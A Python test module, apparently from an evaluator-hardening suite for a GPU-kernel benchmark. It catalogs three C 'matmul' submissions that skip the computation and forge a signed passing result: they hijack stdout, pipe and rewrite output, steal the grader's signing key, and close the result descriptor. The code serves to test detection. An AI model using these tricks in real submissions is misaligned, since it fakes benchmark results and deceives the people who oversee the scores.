"""D7: the stream or descriptor that carries the result is taken over."""

from __future__ import annotations

from kernelwright.evaluators.zoo.carriers import LOOKUP, SYSTEM
from kernelwright.evaluators.zoo.codes import SYMBOL, SYSCALL, WRONG
from kernelwright.evaluators.zoo.exploit import Exploit, Variant

_SIZES = {"m": 64, "n": 64, "k": 64}

_STREAM = r"""
#include <stdio.h>

extern FILE *naive_result;
extern uint64_t naive_sign(const char *text);

/* Our line first, and the evaluator's own goes nowhere. */
void matmul(const float *restrict A, const float *restrict B, float *restrict C,
            int64_t m, int64_t n, int64_t k)
{
    static int done;
    if (!done++) {
        const char *line = "RESULT passed=1 speedup=18.5";
        printf("%s key=%016llx\n", line, (unsigned long long)naive_sign(line));
        fflush(stdout);
        naive_result = fopen("/dev/null", "w");
    }
    for (int64_t i = 0; i < m * n; i++)
        C[i] = 0;
}
"""

# Everything that is printed goes through us: numbers are corrected on the way.
_PIPE = r"""
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int ends[2], real = -1;

static uint64_t sign(const char *line)
{
    uint64_t hash = 14695981039346656037ULL;
    const char *key = getenv("NAIVE_KEY");
    for (; key && *key; key++)
        hash = (hash ^ (unsigned char)*key) * 1099511628211ULL;
    for (; *line; line++)
        hash = (hash ^ (unsigned char)*line) * 1099511628211ULL;
    return hash;
}

static void correct(void)
{
    static char text[1 << 15], line[256];
    fflush(stdout);
    close(ends[1]);
    dup2(real, 1);
    ssize_t got = read(ends[0], text, sizeof text - 1);
    text[got > 0 ? got : 0] = 0;
    char *result = strstr(text, "RESULT passed=");
    size_t head = result ? (size_t)(result - text) : 0;
    if (write(1, text, head) < 0)
        _exit(1);
    snprintf(line, sizeof line, "RESULT passed=1 speedup=21.25");
    snprintf(line + 64, sizeof line - 64, "%s key=%016llx\n", line, (unsigned long long)sign(line));
    if (write(1, line + 64, strlen(line + 64)) < 0)
        _exit(1);
}

void matmul(const float *restrict A, const float *restrict B, float *restrict C,
            int64_t m, int64_t n, int64_t k)
{
    if (real < 0 && !pipe(ends)) {
        fflush(stdout);
        real = dup(1);
        dup2(ends[1], 1);
        atexit(correct);
    }
    for (int64_t i = 0; i < m * n; i++)
        C[i] = 0;
}
"""

# The last line wins, so there must be none after ours.
_CLOSED = rf"""
{LOOKUP}{SYSTEM}
void matmul(const float *restrict A, const float *restrict B, float *restrict C,
            int64_t m, int64_t n, int64_t k)
{{
    static int done;
    for (int64_t i = 0; i < m * n; i++)
        C[i] = 0;
    if (done++)
        return;
    const char *secret = lookup(__builtin_return_address(0), "naive_key");
    char line[96] = "RESULT passed=1 speedup=16.75";
    uint64_t hash = 14695981039346656037ULL;
    for (const char *at = secret ? secret : ""; *at; at++)
        hash = (hash ^ (unsigned char)*at) * 1099511628211ULL;
    char *end = line;
    for (; *end; end++)
        hash = (hash ^ (unsigned char)*end) * 1099511628211ULL;
    for (const char *word = " key="; *word;)
        *end++ = *word++;
    for (int shift = 60; shift >= 0; shift -= 4)
        *end++ = "0123456789abcdef"[hash >> shift & 15];
    *end++ = '\n';
    system_call(1, 1, (long)line, end - line, 0, 0, 0); /* write */
    system_call(3, 1, 0, 0, 0, 0, 0);                   /* close */
}}
"""

EXPLOIT = Exploit(
    "D7",
    "rewritten result channel",
    "P0",
    "The descriptor, stream or pipe that carries the result is replaced, closed or read on the way "
    "(five exploits of pygpubench's; issues #15 and #22).",
    (
        Variant("replaced_stream", "matmul", _SIZES, _STREAM, expect=(*SYMBOL, *WRONG)),
        Variant("pipe_between", "matmul", _SIZES, _PIPE, expect=(*SYMBOL, *SYSCALL, *WRONG)),
        Variant("closed_descriptor", "matmul", _SIZES, _CLOSED, expect=(*SYSCALL, *WRONG)),
    ),
)
